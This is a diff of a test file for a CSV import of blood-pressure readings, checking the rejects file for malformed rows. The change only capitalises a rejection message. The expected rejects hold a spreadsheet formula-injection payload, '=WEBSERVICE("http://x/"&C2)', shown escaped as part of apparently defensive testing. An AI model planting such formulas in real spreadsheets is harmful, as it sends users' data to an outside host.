@@ -72,7 +72,7 @@ describe('a file of rejects, corrected and imported with the same mapping', () =
     const fileId = await admin.uploadFile(`Date,Time,SYS,DIA,Note\n${lines.join('\n')}\n`)
     const { report, rejects } = await admin.importReadings({ kind, mapping, fileId })
     expect(report).toMatchObject({ imported: 0, rejected: 4 })
-    const reason = '"unclosed quote, or a quote inside a cell"'
+    const reason = '"Unclosed quote, or a quote inside a cell"'
     expect(rejects.trimEnd().split('\r\n').slice(1)).toEqual([
       `${reason},2,"2026-01-05","08:00","120","80","'=WEBSERVICE(""http://x/""&C2)"`,
       `${reason},3,"2026-01-06","08:00","'""=WEBSERVICE(""http://x/""&C2)""","81",`,
